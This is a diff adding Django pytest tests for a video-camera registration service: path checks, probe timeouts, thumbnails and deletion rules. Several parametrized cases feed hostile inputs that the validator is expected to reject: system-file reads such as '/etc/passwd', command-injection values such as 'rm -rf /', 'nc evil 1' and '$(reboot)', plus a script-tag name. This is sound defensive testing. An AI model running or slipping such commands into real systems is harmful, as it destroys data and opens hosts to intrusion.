@@ -1,0 +1,132 @@
+"""Camera registration: sources are checked before they are opened, probed with a timeout, thumbnailed."""
+
+from __future__ import annotations
+
+import time
+from pathlib import Path
+
+import numpy as np
+import pytest
+from django.core.exceptions import ValidationError
+from PIL import Image
+
+from gemel_engine.data.synthetic import SceneConfig, SyntheticCamera
+from gemel_engine.data.video import write_video
+from tests.engine.data.conftest import silent_listener  # noqa: F401 - a fixture
+from tests.webapp.test_workloads_factories import make_query, synthetic_source
+from webapp.workloads.models import Camera, Query
+from webapp.workloads.services import camera_delete, camera_register, camera_update
+
+pytestmark = pytest.mark.django_db
+
+
+def register(source: str, name: str = "cam", **kwargs) -> Camera:
+    return camera_register(name=name, source=source, fps=5.0, width=32, height=32, **kwargs)
+
+
+def write_clip(path: Path) -> Path:
+    camera = SyntheticCamera(SceneConfig(seed=2, width=64, height=48, num_frames=6))
+    path.parent.mkdir(parents=True, exist_ok=True)
+    write_video([frame.image for frame in camera.frames()], path, fps=5.0, codec="mjpeg")
+    return path
+
+
+def test_it_registers_a_synthetic_camera_with_a_png_thumbnail_of_its_first_frame():
+    camera = register(synthetic_source("north"), name="<script>alert(1)</script>")
+    assert camera.name == "<script>alert(1)</script>"
+    with Image.open(camera.thumbnail.path) as thumb:
+        assert thumb.format == "PNG"
+        assert np.asarray(thumb).std() > 0  # a real picture, not a blank
+
+
+def test_it_accepts_a_video_file_inside_the_media_folder(settings):
+    clip = write_clip(Path(settings.MEDIA_ROOT) / "videos" / "clip.avi")
+    camera = register(f"file://{clip}")
+    assert camera.source == str(clip.resolve())
+    assert camera.thumbnail
+
+
+def test_it_accepts_a_relative_path_inside_a_configured_camera_root(settings, tmp_path):
+    root = tmp_path / "cameras"
+    write_clip(root / "gate.avi")
+    settings.CAMERA_FILE_ROOTS = [root]
+    camera = register("gate.avi")
+    assert camera.source == str((root / "gate.avi").resolve())
+
+
+@pytest.mark.parametrize("source", ["file:///etc/passwd", "/etc/hostname", "../../etc/passwd"])
+def test_it_refuses_paths_outside_the_allowed_roots(source):
+    with pytest.raises(ValidationError, match="inside the media folder"):
+        register(source)
+
+
+def test_it_refuses_a_symlink_that_escapes_the_media_folder(settings, tmp_path):
+    outside = write_clip(tmp_path / "outside" / "secret.avi")
+    link = Path(settings.MEDIA_ROOT) / "link.avi"
+    link.parent.mkdir(parents=True, exist_ok=True)
+    link.symlink_to(outside)
+    with pytest.raises(ValidationError, match="inside the media folder"):
+        register(str(link))
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "clip.avi; rm -rf /",
+        "clip.avi|nc evil 1",
+        "$(reboot).avi",
+        "`id`.avi",
+        "synthetic://north?seed=1`id`",
+        "rtsp://cam.local/live;reboot",
+        "synthetic://north\x07",
+        "synthetic://north\n",
+        "http://cam.local/a b",
+    ],
+)
+def test_it_refuses_shell_metacharacters_control_characters_and_whitespace(source):
+    with pytest.raises(ValidationError, match=r"metacharacters|whitespace or control"):
+        register(source)
+
+
+def test_it_refuses_a_file_that_is_not_a_video_with_could_not_decode(settings):
+    fake = Path(settings.MEDIA_ROOT) / "notes.mp4"
+    fake.parent.mkdir(parents=True, exist_ok=True)
+    fake.write_bytes(b"this is not a video\n" * 100)
+    with pytest.raises(ValidationError, match="could not decode"):
+        register(str(fake))
+    assert not Camera.objects.exists()
+
+
+def test_an_unreachable_stream_fails_quickly_with_a_clear_error(settings, silent_listener):  # noqa: F811
+    settings.CAMERA_PROBE_TIMEOUT_S = 1.0
+    started = time.monotonic()
+    with pytest.raises(ValidationError, match="could not decode"):
+        register(f"http://127.0.0.1:{silent_listener}/stream.mjpeg")
+    assert time.monotonic() - started < 6
+    assert not Camera.objects.exists()
+
+
+def test_it_refuses_unknown_schemes_and_a_taken_name():
+    with pytest.raises(ValidationError, match="unknown camera source scheme"):
+        register("gopher://example.org/1")
+    register(synthetic_source("north"), name="north")
+    with pytest.raises(ValidationError, match="already taken"):
+        register(synthetic_source("east"), name="north")
+
+
+def test_deleting_a_camera_that_queries_use_is_refused_with_their_names():
+    query = make_query("north_vehicles")
+    with pytest.raises(ValidationError, match="north_vehicles"):
+        camera_delete(camera=query.camera)
+    query.delete()
+    camera_delete(camera=query.camera)
+    assert not Camera.objects.exists()
+
+
+def test_changing_a_cameras_source_reprobes_it_and_sends_its_queries_back_to_measuring():
+    query = make_query("north_vehicles")
+    old_thumbnail = query.camera.thumbnail.name
+    camera_update(camera=query.camera, source=synthetic_source("north", seed=9))
+    query.refresh_from_db()
+    assert query.status == Query.Status.PENDING and query.unmerged_accuracy is None
+    assert query.camera.thumbnail.name != old_thumbnail
